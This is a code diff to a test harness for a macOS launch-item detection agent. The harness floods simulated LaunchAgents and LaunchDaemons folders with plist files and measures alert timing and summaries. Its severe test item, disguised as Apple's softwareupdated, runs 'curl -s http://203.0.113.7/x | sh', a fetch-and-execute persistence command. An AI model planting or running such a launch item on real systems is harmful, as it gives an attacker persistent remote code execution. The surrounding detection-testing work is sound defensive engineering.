@@ -1,19 +1,26 @@
 import { mkdirSync, readFileSync } from 'node:fs';
 import path from 'node:path';
 import Database from 'better-sqlite3';
-import { type AgentProcess, allAlerts, launchAgentPlist, type SimulatedMac, waitFor } from './mac.js';
+import { type AgentProcess, launchAgentPlist, type SimulatedMac, waitFor } from './mac.js';
 
-/** What became of many launch items that were written at once, one of them severe. */
+/** What became of one severe item amid many others. */
+export interface Severe {
+  readonly path: string;
+  /** Alerts of its own of a priority above low. */
+  readonly alerts: number;
+  /** From its write to the commit of the first of them, milliseconds; undefined when there is none. */
+  readonly ms: number | undefined;
+}
+
+/** What became of many launch items that were written at once, and of two severe ones in the middle of them. */
 export interface DropReport {
   readonly lists: number;
   /** Lists of which there is an event. */
   readonly seen: number;
   /** Lists that have an alert of their own, or are counted by the summary of those that were held back. */
   readonly told: number;
-  /** Alerts of its own that the severe one has, of a priority above low. */
-  readonly severe: number;
-  /** From its write to the commit of its first alert, milliseconds; undefined when it has none. */
-  readonly severeMs: number | undefined;
+  /** In the flooded folder itself, and among the system's daemons. */
+  readonly severe: readonly Severe[];
   /** From the first write to the last, and until the agent had judged everything, milliseconds. */
   readonly writtenMs: number;
   readonly judgedMs: number;
@@ -22,46 +29,51 @@ export interface DropReport {
 }
 
 const folder = '/Users/alice/Library/LaunchAgents';
+const severePaths = [
+  `${folder}/com.apple.softwareupdated.plist`,
+  '/Library/LaunchDaemons/com.apple.softwareupdated.plist',
+];
 const rule = 'Launch item created or changed';
+const severeList = launchAgentPlist('com.apple.softwareupdated', [
+  '/bin/sh',
+  '-c',
+  'curl -s http://203.0.113.7/x | sh',
+]);
 
-/** Writes so many lists into one folder without a pause; the severe one is in the middle of them. */
+/** Writes so many lists into one folder without a pause, and two severe ones when half of them stand there. */
 export async function dropLists(agent: AgentProcess, lists: number, settleMs: number): Promise<DropReport> {
   const { mac } = agent;
   mkdirSync(mac.host(folder), { recursive: true });
   const begun = performance.now();
-  const severe = `${folder}/com.apple.softwareupdated.plist`;
   let severeAt = 0;
-  for (let index = 0; index < lists - 1; index++) {
+  for (let index = 0; index < lists; index++) {
     if (index === Math.floor(lists / 2)) {
       severeAt = Date.now();
-      mac.write(
-        severe,
-        launchAgentPlist('com.apple.softwareupdated', ['/bin/sh', '-c', 'curl -s http://203.0.113.7/x | sh']),
-      );
+      for (const one of severePaths) mac.write(one, severeList);
     }
     mac.write(`${folder}/net.example.drop-${index}.plist`, launchAgentPlist(`net.example.drop-${index}`));
   }
   const writtenMs = performance.now() - begun;
-  const own = await waitFor('the alert of the severe one', () => alertOf(mac, severe), settleMs).catch(
-    () => undefined,
-  );
+  const wanted = lists + severePaths.length;
   await waitFor(
     'the agent to see every list',
-    () => (seenOf(mac) >= lists ? true : undefined),
+    () => (seenOf(mac) >= wanted ? true : undefined),
     settleMs,
   ).catch(() => undefined);
   await settledWithin(agent, settleMs);
   const judgedMs = performance.now() - begun;
-  const seen = seenOf(mac);
+  // A summary is brought up to date a while after what it counts.
+  await waitFor(
+    'the summary to count the rest',
+    () => (toldOf(mac) >= wanted ? true : undefined),
+    settleMs,
+  ).catch(() => undefined);
   const peakBytes = peakOf(agent);
-  // The summary is brought up to date when its interval ends, and when the agent does.
-  await agent.stop();
   return {
-    lists,
-    seen,
+    lists: wanted,
+    seen: seenOf(mac),
     told: toldOf(mac),
-    severe: own?.count ?? 0,
-    severeMs: own === undefined ? undefined : own.created - severeAt,
+    severe: severePaths.map((one) => severeOf(mac, one, severeAt)),
     writtenMs,
     judgedMs,
     peakBytes,
@@ -77,7 +89,7 @@ function read<T>(mac: SimulatedMac, name: string, sql: string, ...values: string
   }
 }
 
-function alertOf(mac: SimulatedMac, macPath: string): { count: number; created: number } | undefined {
+function severeOf(mac: SimulatedMac, macPath: string, since: number): Severe {
   const found = read<{ created: number }>(
     mac,
     'launchwarden.db',
@@ -86,7 +98,8 @@ function alertOf(mac: SimulatedMac, macPath: string): { count: number; created: 
     macPath,
   );
   const [first] = found;
-  return first === undefined ? undefined : { count: found.length, created: first.created / 1000 };
+  const ms = first === undefined ? undefined : first.created / 1000 - since;
+  return { path: macPath, alerts: found.length, ms };
 }
 
 function seenOf(mac: SimulatedMac): number {
@@ -94,7 +107,7 @@ function seenOf(mac: SimulatedMac): number {
     mac,
     'events.db',
     `SELECT count(DISTINCT json_extract(body, '$.file.path')) AS seen FROM events
-      WHERE json_extract(body, '$.file.path') LIKE '${folder}/%'`,
+      WHERE json_extract(body, '$.file.path') LIKE '%/Library/Launch%/%.plist'`,
   );
   return row?.seen ?? 0;
 }
@@ -119,13 +132,15 @@ function peakOf({ child }: AgentProcess): number | undefined {
 
 /** Lists that an alert of the rule for every launch item is about, and those that its summaries count. */
 function toldOf(mac: SimulatedMac): number {
-  let told = 0;
-  const own = new Set<string>();
-  for (const { rule_name, doc } of allAlerts(mac)) {
-    if (rule_name !== rule) continue;
-    const fields = (doc['launchwarden'] as { alert?: { kind?: string; suppressed?: number } }).alert;
-    if (fields?.kind === 'match' && doc.file?.path !== undefined) own.add(doc.file.path);
-    else told += fields?.suppressed ?? 0;
-  }
-  return told + own.size;
+  const alerts = read<{ kind: string; path: string | null; suppressed: number }>(
+    mac,
+    'launchwarden.db',
+    `SELECT json_extract(d.body, '$.launchwarden.alert.kind') AS kind, json_extract(d.body, '$.file.path') AS path,
+        json_extract(d.body, '$.launchwarden.alert.suppressed') AS suppressed
+      FROM alerts a JOIN documents d ON d.seq = a.doc WHERE a.rule_name = ?`,
+    rule,
+  );
+  const own = new Set(alerts.filter(({ kind }) => kind === 'match').map(({ path }) => path));
+  const held = alerts.filter(({ kind }) => kind === 'summary').map(({ suppressed }) => suppressed);
+  return own.size + held.reduce((sum, count) => sum + count, 0);
 }
